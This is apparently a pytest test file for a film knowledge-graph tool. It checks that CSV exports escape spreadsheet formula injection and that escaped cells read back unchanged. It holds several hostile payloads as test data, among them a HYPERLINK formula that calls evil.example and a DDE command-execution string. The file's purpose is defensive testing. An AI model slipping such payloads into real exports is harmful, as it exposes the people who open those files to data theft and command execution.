"""CSV output is not open to spreadsheet formula injection (issue 13): every CSV filmkg writes puts a
``'`` before a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, unless the
cell is a plain number; and filmkg reads such a cell back as it was.

The names are hostile labels ingested from a CSV file; every CSV output is parsed with the csv module.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from cli_helpers import cli, csv_rows
from kg import KnowledgeGraph
from kg.output import FORMULA_STARTS

HOSTILE = ['=HYPERLINK("http://evil.example/?x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "=1+1"]
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _rows(hostile: list[str]) -> str:
    lines = ["subject,predicate,object,character"]
    for i, name in enumerate(hostile):
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"{quoted},acted-in,Film {i},{quoted}")
        lines.append(f"Director {i},directed,Film {i},")
    return "\n".join(lines) + "\n"


@pytest.fixture
def hostile_store(kg_path: Path, tmp_path: Path) -> Path:
    path = tmp_path / "hostile.csv"
    path.write_text(_rows(HOSTILE), encoding="utf-8")
    cli(kg_path, "ingest", path)
    return kg_path


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_safe(text: str) -> list[str]:
    cells = _cells(text)
    unsafe = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert unsafe == []
    return cells


COMMANDS = [
    ["query", "SELECT ?name ?who WHERE { ?p film:actedIn ?f ; rdfs:label ?name . ?p film:actedIn ?f . BIND(?name AS ?who) }",
     "--format", "csv"],
    ["query", "--name", "cast", "--bind", "film=Film 0", "--format", "csv"],
    ["reconcile", "--unmatched", "--format", "csv"],
    ["conflicts", "--format", "csv"],
    ["validate", "--format", "csv"],
    ["verify", "--format", "csv"],
    ["analyze", "centrality", "--format", "csv"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: " ".join(c[:2]) if c[0] == "analyze" else c[0] + ("-name" if "--name" in c else ""))
def test_no_csv_output_starts_a_formula(hostile_store: Path, command: list[str]) -> None:
    run = cli(hostile_store, *command)
    _assert_safe(run.stdout)


def test_hostile_labels_are_quoted_and_kept_whole(hostile_store: Path) -> None:
    run = cli(hostile_store, "query", "SELECT ?name WHERE { ?p film:actedIn ?f ; rdfs:label ?name } ORDER BY ?name",
              "--format", "csv")  # fmt: skip
    cells = _assert_safe(run.stdout)[1:]
    assert sorted(cells) == sorted("'" + name for name in HOSTILE)


def test_plain_numbers_keep_their_form(kg_path: Path, tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_text("subject,predicate,object\nSean Baker,directed,Anora\n")
    cli(kg_path, "ingest", path)
    run = cli(kg_path, "query", 'SELECT ?x WHERE { VALUES ?x { -5 "-5" "+2.5" "-1e3" "-1+2" "-" "@" "a=b" } }', "--format", "csv")
    assert csv_rows(run.stdout)[1:] == [["-5"], ["-5"], ["+2.5"], ["-1e3"], ["'-1+2"], ["'-"], ["'@"], ["a=b"]]


def test_a_csv_filmkg_wrote_reads_back_as_it_was(tmp_path: Path) -> None:
    """The proposals of ``reconcile --write`` quote hostile names; ingesting the file gives the names back."""
    graph = KnowledgeGraph.memory()
    rows = [{"subject": name, "predicate": "directed", "object": "Anora", "object_id": "", "note": "-1+1"} for name in HOSTILE]
    target = tmp_path / "proposals.csv"
    from kg.reconcile import write_proposals

    write_proposals(rows, target)
    _assert_safe(target.read_text(encoding="utf-8"))
    graph.ingest(target)
    result = graph.query("SELECT ?name WHERE { ?p film:directed ?f ; rdfs:label ?name }")
    assert sorted(str(r[0].value) for r in result.rows) == sorted(HOSTILE)
